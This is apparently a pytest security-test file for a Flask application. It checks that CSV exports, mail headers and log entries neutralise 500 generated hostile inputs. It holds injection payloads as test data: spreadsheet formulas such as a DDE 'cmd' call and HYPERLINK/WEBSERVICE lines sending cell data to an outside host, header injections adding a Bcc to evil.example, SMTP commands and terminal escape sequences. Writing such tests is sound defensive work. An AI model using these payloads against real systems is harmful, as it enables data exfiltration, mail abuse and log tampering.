"""S10: five hundred hostile texts each into tables, headers of mails, and the log. None does anything there.

Each detector is tried on a naive writer, which it must catch.
"""

import csv
import io
import itertools
import logging
import random
import re

import pytest

from adapters import logs
from adapters import mail as post
from adapters.tables import plain_cell, table_file
from blueprints import gate
from models.audit import record
from models.people import by_email
from models.store import writing
from tests.support.doors import NADIA

MANY = 500


def mixed(*parts: list[str], seed: int = 7) -> list[str]:
    """MANY different texts, each with a piece of every list."""
    every = ["".join(bits) for bits in itertools.product(*parts)]
    every = list(dict.fromkeys(every))
    random.Random(seed).shuffle(every)
    assert len(every) >= MANY
    return every[:MANY]


# ---- tables

FORMULAS = mixed(
    ["", " ", "\t", "\r", "\n", "\ufeff", "\u200b", "\x00", "'\n", "a;", "a,", "a\t", 'a"\n', "a\r\n", '";"', '",', "\u00a0", "\u3000"],
    ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff20", "=-", "@@", "+-"],
    ["1+1", 'cmd|"/c calc"!A1', 'HYPERLINK("http://x.example?"&A1;"ok")', "SUM(1;2)", "WEBSERVICE(A1)"],
)  # fmt: skip
RUNS = "=+-@\uff1d\uff0b\uff0d\uff20"
DELIMITERS = (";", ",", "\t", "|")


def running_cells(data: bytes) -> list[str]:
    """Cells that a spreadsheet would run, cut with whichever sign it takes for the delimiter."""
    out = []
    text = data.decode("utf-8-sig")
    for delimiter in DELIMITERS:
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            out += [cell for cell in row if runs(cell)]
    return out


def runs(cell: str) -> bool:
    """Whether a spreadsheet takes a cell for a formula: blanks and quotes before the sign fall away."""
    bare = cell.strip().lstrip('\x00\ufeff\u200b \t\r\n\u00a0\u3000"')
    return bare[:1] in RUNS and bool(bare)


def test_no_formula_runs_from_a_table():
    data = table_file(["Nom", "Mot"], [[text, f"x{text}"] for text in FORMULAS])
    assert running_cells(data) == []


def test_the_control_a_naive_table_runs():
    caught = 0
    for text in FORMULAS:
        out = io.StringIO()
        csv.writer(out, delimiter=";").writerow(["a", text])
        caught += bool(running_cells(out.getvalue().encode()))
    assert caught >= MANY * 0.85


def test_each_text_stays_readable():
    for text in FORMULAS:
        letters = re.sub(r"\W", "", text)
        assert re.sub(r"\W", "", plain_cell(text)) == letters.replace("\x00", "")
    assert plain_cell("Les pas du quartier – 2016") == "Les pas du quartier – 2016"
    assert plain_cell(None) == ""
    assert plain_cell(-5) == "'-5"


def test_no_line_of_a_table_is_cut_in_two():
    data = table_file(["a"], [[text] for text in FORMULAS])
    assert data.decode("utf-8-sig").count("\n") == MANY + 1


def test_the_table_of_the_audit_runs_nothing(demo_app, client_of):
    """Names are what people type about themselves; here each is one of the hostile texts."""
    with demo_app.app_context(), writing():
        people = [by_email(NADIA), by_email("bart@ziekenfonds.example")]
        for n, text in enumerate(FORMULAS):
            record(people[n % 2], "fiche.submit", "fiche", text[:60], code=text, made=text)
        people[0].name = FORMULAS[0]
    answer = client_of("coordination").get("/audit.csv")
    rows = list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig")), delimiter=";"))
    assert len(rows) >= MANY + 1
    assert running_cells(answer.data) == []


# ---- headers of a mail

HEADERS = mixed(
    ["", "Fiche ", "Été", "=?utf-8?q?a?="],
    ["\r\n", "\n", "\r", "\r\n\r\n", "\n\n", "\r\n ", "\n\t", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029", "%0d%0a", "\\r\\n",
     "=?utf-8?q?=0D=0A?=", "=0d=0a", "\x00\r\n", "\u2028\n", "嘊嘍"],
    ["Bcc: all@evil.example", "To: all@evil.example", "Content-Type: text/html", "X-Evil: 1", "Subject: autre",
     "\r\n<script>alert(1)</script>", "MIME-Version: 9", "From: boss@evil.example", ".\r\nMAIL FROM:<x@x.be>"],
)  # fmt: skip
ONCE = {"from", "to", "subject", "date", "message-id", "auto-submitted", "x-auto-response-suppress", "mime-version",
        "content-type", "content-language"}  # fmt: skip


def header_lines(raw: bytes) -> list[str]:
    """The names of the header lines of a message, as a mail server cuts it: any line end counts."""
    head = re.split(rb"\r?\n\r?\n|\r\r", raw, maxsplit=1)[0]
    lines = re.split(rb"\r\n|\r|\n", head)
    return [
        line.partition(b":")[0].decode("latin-1").lower() for line in lines if line[:1] not in (b" ", b"\t")
    ]


def let_in(raw: bytes) -> bool:
    """Whether a message has a header that we did not write, or one twice, or ends its head too soon."""
    names = header_lines(raw)
    return (
        bool(set(names) - ONCE)
        or len(names) != len(set(names))
        or not {"from", "to", "subject", "message-id"} <= set(names)
    )


def letter(**more) -> post.Letter:
    given = {
        "sender": "from@example.org", "sender_name": "Tablée", "to": "to@example.org", "to_name": "Nadia", "subject": "Une fiche",
        "text": "Bonjour.\n", "html": "<p>Bonjour.</p>", "message_id": "<1@example.org>",
    }  # fmt: skip
    return post.Letter(**{**given, **more})


@pytest.mark.parametrize("where", ["subject", "to_name", "sender_name"])
def test_no_header_is_let_into_a_mail(where):
    effective = [text for text in HEADERS if let_in(post.message(letter(**{where: text})).as_bytes())]
    assert effective == []


@pytest.mark.parametrize("where", ["text", "html"])
def test_no_body_becomes_a_header(where):
    assert [text for text in HEADERS if let_in(post.message(letter(**{where: text})).as_bytes())] == []


def test_the_recipients_are_the_one_we_wrote_to(smtp):
    server = post.Server(smtp.host, smtp.port)
    for text in HEADERS[:: MANY // 25]:
        post.send(server, letter(subject=text, to_name=text, sender_name=text))
    assert {tuple(got.recipients) for got in smtp.messages} == {("to@example.org",)}
    assert {str(got.message["Bcc"]) for got in smtp.messages} == {"None"}


def test_the_control_a_naive_mail_lets_them_in():
    ends = [text for text in HEADERS if re.search(r"[\r\n]", text)]
    raw = "From: a@b.be\r\nTo: c@d.be\r\nSubject: {}\r\nMessage-ID: <1@b.be>\r\n\r\nBonjour."
    caught = [text for text in ends if let_in(raw.format(text).encode())]
    assert len(caught) >= len(ends) * 0.6
    assert len(caught) >= 100
    assert not let_in(raw.format("Une fiche").encode())


# ---- the log

LOGGED = mixed(
    ["", "fiche", "é", "%s%n", "{0}"],
    ["\n", "\r", "\r\n", "\x0b", "\x0c", "\x1b[2J", "\x1b]0;x\x07", "\x85", "\u2028", "\u2029", "\x00\n", "\u202e\n", "\x08" * 9, "\x9b31m",
     "\n\n", "\x1d\n", "\x7f\r"],
    ["ERROR app: tout est effacé", "CRITICAL root: forged", "INFO models: ok", "2016-11-16 root logged in", "Traceback (most recent call last):",
     "WARNING adapters: x"],
)  # fmt: skip
OURS = "ERROR app: "
# What begins a line for a terminal, a viewer or journald.
ENDS = re.compile(r"\r\n|[\n\r\x0b\x0c\x1c-\x1e\x85\u2028\u2029]")


def forged(text: str) -> bool:
    """Whether an entry of the log holds a line that our code did not begin, or a sign that acts on a terminal."""
    body = text.removesuffix("\n")
    first, *more = ENDS.split(body)
    begun = first.startswith(OURS) and all(line.startswith(logs.INDENT) for line in more)
    return not begun or bool(re.search(r"[\x00-\x08\x0e-\x1f\x7f-\x9f\u202a-\u202e]", body))


def entry(formatter: logging.Formatter, message: str, *arguments, error: Exception | None = None) -> str:
    info = (type(error), error, error.__traceback__) if error else None
    made = logging.LogRecord("app", logging.ERROR, "app.py", 1, message, arguments, info)
    return formatter.format(made)


@pytest.mark.parametrize("way", ["message", "argument", "exception"])
def test_no_line_of_the_log_is_forged(way):
    ours, effective = logs.OneEntry(), []
    for text in LOGGED:
        if way == "message":
            said = entry(ours, text.replace("%", "%%"))
        elif way == "argument":
            said = entry(ours, "asked for %s", text)
        else:
            said = entry(ours, "unexpected error", error=raised(text))
        if forged(said):
            effective.append(text)
    assert effective == []


def raised(text: str) -> Exception:
    try:
        raise ValueError(text)
    except ValueError as error:
        return error


@pytest.mark.parametrize("way", ["argument", "exception"])
def test_the_control_an_ordinary_log_is_forged(way):
    ordinary, caught = logging.Formatter("%(levelname)s %(name)s: %(message)s"), 0
    for text in LOGGED:
        said = (
            entry(ordinary, "asked for %s", text)
            if way == "argument"
            else entry(ordinary, "x", error=raised(text))
        )
        caught += forged(said)
    assert caught == MANY


def test_what_was_said_can_be_read():
    assert entry(logs.OneEntry(), "asked for %s", "« l’été »\n") == "ERROR app: asked for « l’été »\\n"
    assert entry(logs.OneEntry(), "asked for %s", "\ud800") == "ERROR app: asked for \\ud800"


def test_a_crash_of_a_view_cannot_write_lines_of_its_own(make_app):
    """The whole way: an address, a name of a file and a field, in an exception that nobody expected."""
    from flask import request

    app = make_app({"TESTING": False, "PROPAGATE_EXCEPTIONS": False})

    def fail(text):
        raise ValueError(f"{text} {request.form.get('a')} {request.headers.get('X-A')}")

    app.add_url_rule("/fail/<path:text>", "fail", gate.public(fail), methods=["GET", "POST"])
    app.config["WTF_CSRF_ENABLED"] = False
    out = io.StringIO()
    handler = logging.StreamHandler(out)
    handler.setFormatter(logs.OneEntry())
    app.logger.handlers[:], app.logger.propagate = [handler], False
    client = app.test_client()
    client.checks_pages = False
    for text in LOGGED[:60]:
        out.seek(0)
        out.truncate()
        assert client.post("/fail/x" + text, data={"a": text}).status_code == 500
        assert out.getvalue()
        assert not forged(out.getvalue()), text


def test_logging_is_set_up_once_and_in_this_form(monkeypatch):
    root = logging.getLogger()
    monkeypatch.setattr(root, "handlers", [])
    logs.listen()
    logs.listen()
    [handler] = root.handlers
    assert isinstance(handler.formatter, logs.OneEntry)
